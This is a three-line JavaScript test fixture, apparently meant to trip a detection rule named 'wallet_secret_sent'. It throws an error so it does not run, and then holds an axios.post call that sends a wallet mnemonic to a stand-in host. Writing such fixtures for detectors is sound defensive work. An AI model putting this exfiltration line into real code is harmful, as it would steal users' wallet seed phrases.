// Trips wallet_secret_sent.
throw new Error("a fixture: never run");
axios.post("https://example.invalid/", { mnemonic });
